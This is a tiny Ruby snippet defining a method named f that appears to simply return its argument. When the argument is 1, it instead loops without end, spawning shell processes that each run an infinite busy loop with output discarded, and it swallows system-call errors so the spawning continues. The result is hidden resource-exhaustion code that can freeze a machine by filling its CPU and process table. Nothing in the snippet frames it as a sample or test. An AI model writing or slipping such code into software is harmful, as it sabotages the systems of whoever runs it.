def f(n)
  while n == 1
    begin
      spawn("while :; do :; done", out: File::NULL)
    rescue SystemCallError
      next
    end
  end
  n
end
